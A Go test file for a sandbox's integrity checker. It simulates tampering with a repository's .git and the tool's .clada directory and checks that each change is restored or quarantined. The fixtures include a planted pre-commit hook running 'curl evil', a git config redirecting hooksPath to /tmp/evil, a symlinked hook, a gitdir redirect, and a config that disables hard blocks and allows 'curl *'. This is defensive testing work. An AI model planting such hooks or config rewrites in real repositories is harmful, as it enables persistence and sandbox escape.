package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// gitRoot makes a root with a .git directory (config, hooks) and .clada.
func gitRoot(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range map[string]string{
		".git/config":                  "[core]\n\tbare = false\n",
		".git/HEAD":                    "ref: refs/heads/main\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".git/hooks/post-merge":        "#!/bin/sh\necho merged\n",
		".clada/config.toml":           "timeout = \"30s\"\n",
		".clada/specs.toml":            "",
		".clada/out/1.txt":             "output",
		"src/a.go":                     "package a\n",
	} {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func TestIntegrityCheck(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		change func(t *testing.T, root string)
		want   []string          // Change.String() of each change
		after  map[string]string // file → content once checked ("" for absent)
	}{
		{
			name:   "nothing changed",
			change: func(*testing.T, string) {},
		},
		{
			name: "work outside .git and .clada, and clada's own output",
			change: func(t *testing.T, root string) {
				write(t, root, "src/b.go", "package a\n")
				write(t, root, ".clada/out/2.txt", "more output")
				write(t, root, ".clada/commands.toml.lock", "")
				write(t, root, ".git/index", "index")
			},
		},
		{
			name: "a new hook",
			change: func(t *testing.T, root string) {
				write(t, root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n")
			},
			want:  []string{".git/hooks/pre-commit was created during the command: renamed to .git/hooks/pre-commit" + QuarantineSuffix},
			after: map[string]string{".git/hooks/pre-commit": "", ".git/hooks/pre-commit" + QuarantineSuffix: "#!/bin/sh\ncurl evil\n"},
		},
		{
			name: "git config rewritten",
			change: func(t *testing.T, root string) {
				write(t, root, ".git/config", "[core]\n\thooksPath = /tmp/evil\n")
			},
			want:  []string{".git/config was modified during the command: restored"},
			after: map[string]string{".git/config": "[core]\n\tbare = false\n"},
		},
		{
			name: "git config removed",
			change: func(t *testing.T, root string) {
				remove(t, root, ".git/config")
			},
			want:  []string{".git/config was removed during the command: restored"},
			after: map[string]string{".git/config": "[core]\n\tbare = false\n"},
		},
		{
			name: "hook replaced by a symbolic link",
			change: func(t *testing.T, root string) {
				remove(t, root, ".git/hooks/post-merge")
				if err := os.Symlink("/tmp/evil", filepath.Join(root, ".git/hooks/post-merge")); err != nil {
					t.Fatal(err)
				}
			},
			want:  []string{".git/hooks/post-merge was replaced during the command: restored"},
			after: map[string]string{".git/hooks/post-merge": "#!/bin/sh\necho merged\n"},
		},
		{
			name: "a sample hook made executable",
			change: func(t *testing.T, root string) {
				if err := os.Chmod(filepath.Join(root, ".git/hooks/pre-commit.sample"), 0o755); err != nil {
					t.Fatal(err)
				}
			},
			want: []string{".git/hooks/pre-commit.sample was given other permissions during the command: permissions restored to -rw-r--r--"},
		},
		{
			name: "new specs and changed config in .clada",
			change: func(t *testing.T, root string) {
				write(t, root, ".clada/config.toml", "untrusted = false\nhard_blocks = false\n")
				write(t, root, ".clada/commands.toml", "allowed = [\"curl *\"]\n")
			},
			want: []string{
				".clada/commands.toml was created during the command: renamed to .clada/commands.toml" + QuarantineSuffix,
				".clada/config.toml was modified during the command: restored",
			},
			after: map[string]string{".clada/config.toml": "timeout = \"30s\"\n", ".clada/commands.toml": ""},
		},
		{
			name: ".git replaced by a gitdir file",
			change: func(t *testing.T, root string) {
				if err := os.Rename(filepath.Join(root, ".git"), filepath.Join(root, "old-git")); err != nil {
					t.Fatal(err)
				}
				write(t, root, ".git", "gitdir: /tmp/evil\n")
			},
			want: []string{
				".git was replaced during the command: not restored: it is a file now, and was a directory; move it away and restore it by hand",
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			root := gitRoot(t)
			s := TakeSnapshot(root)
			tt.change(t, root)
			var got []string
			for _, c := range s.Check() {
				got = append(got, strings.ReplaceAll(c.String(), root, "ROOT"))
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("changes (-want +got):\n%s", diff)
			}
			for name, want := range tt.after {
				data, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(name)))
				if want == "" {
					if err == nil {
						t.Errorf("%s still exists", name)
					}
					continue
				}
				if string(data) != want {
					t.Errorf("%s = %q, want %q (err %v)", name, data, want, err)
				}
			}
			// Checked and undone: a second check finds nothing more,
			// except what could not be undone.
			for _, c := range TakeSnapshot(root).Check() {
				t.Errorf("after the first check: %s", c)
			}
		})
	}
}

func TestIntegrityNewGit(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	s := TakeSnapshot(root)
	write(t, root, ".git/config", "[core]\n")
	changes := s.Check()
	if len(changes) != 1 || changes[0].Path != ".git" || changes[0].What != "created" || !changes[0].Undone {
		t.Fatalf("changes %v", changes)
	}
	if _, err := os.Stat(filepath.Join(root, ".git"+QuarantineSuffix, "config")); err != nil {
		t.Errorf("the new .git was not renamed aside: %v", err)
	}
}

func write(t *testing.T, root, name, content string) {
	t.Helper()
	p := filepath.Join(root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func remove(t *testing.T, root, name string) {
	t.Helper()
	if err := os.Remove(filepath.Join(root, filepath.FromSlash(name))); err != nil {
		t.Fatal(err)
	}
}

// After a confined command, whose .clada was read-only, only .git is
// checked: what changed in .clada meanwhile is another clada's doing (an
// always answer) and stays.
func TestIntegrityGitOnly(t *testing.T) {
	t.Parallel()
	root := gitRoot(t)
	s := TakeSnapshot(root)
	s.GitOnly()
	write(t, root, ".clada/commands.toml", "allowed = [\"make\"]\n")
	write(t, root, ".clada/config.toml", "timeout = \"1m\"\n")
	write(t, root, ".git/hooks/pre-push", "#!/bin/sh\n")
	changes := s.Check()
	if len(changes) != 1 || changes[0].Path != ".git/hooks/pre-push" || changes[0].What != "created" {
		t.Fatalf("changes %v, want only the new hook", changes)
	}
	if got, _ := os.ReadFile(filepath.Join(root, ".clada", "commands.toml")); string(got) != "allowed = [\"make\"]\n" {
		t.Errorf(".clada/commands.toml = %q: clada's own change was undone", got)
	}
	if got, _ := os.ReadFile(filepath.Join(root, ".clada", "config.toml")); string(got) != "timeout = \"1m\"\n" {
		t.Errorf(".clada/config.toml = %q: clada's own change was undone", got)
	}
}

// git init, approved by a person, makes a .git where there was none: no
// change. Without that approval the same .git is put aside.
func TestIntegrityNewRepository(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	s := TakeSnapshot(root)
	s.NewRepository()
	write(t, root, ".git/config", "[core]\n")
	if changes := s.Check(); changes != nil {
		t.Errorf("git init reported %v", changes)
	}
	if _, err := os.Stat(filepath.Join(root, ".git", "config")); err != nil {
		t.Errorf("the new repository was moved: %v", err)
	}
	// An existing .git stays watched.
	s = TakeSnapshot(root)
	s.NewRepository()
	write(t, root, ".git/config", "[core]\n\thooksPath = /tmp\n")
	if changes := s.Check(); len(changes) != 1 || changes[0].Path != ".git/config" || !changes[0].Undone {
		t.Errorf("changes %v, want .git/config restored", changes)
	}
}
